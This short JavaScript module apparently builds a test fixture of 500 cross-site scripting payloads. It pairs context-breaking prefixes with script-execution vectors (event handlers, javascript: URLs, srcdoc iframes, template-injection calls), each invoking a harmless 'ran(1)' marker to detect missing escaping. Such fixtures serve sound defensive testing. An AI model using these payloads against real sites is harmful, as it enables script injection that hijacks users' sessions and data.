/** Call with which a payload reports that it ran. */
const RUN = 'ran(1)'

const exits = [
  '',
  '">',
  "'>",
  '" ',
  "' ",
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '`',
  '\\">',
  '\\u003c',
  '&quot;>',
  '%22%3E',
  '\u2028',
  '"}]}',
  '${',
  '{{',
]

const runs = [
  `<script>${RUN}</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<template><script>${RUN}</script></template><style>@import 'javascript:${RUN}'</style>`,
  `onfocus=${RUN} autofocus x="`,
  `constructor.constructor('${RUN}')()}}`,
  `;${RUN}//`,
]

/** Five hundred texts, each of which runs where escaping is missing. */
export const scriptPayloads = runs.flatMap((run) => exits.map((exit) => exit + run))
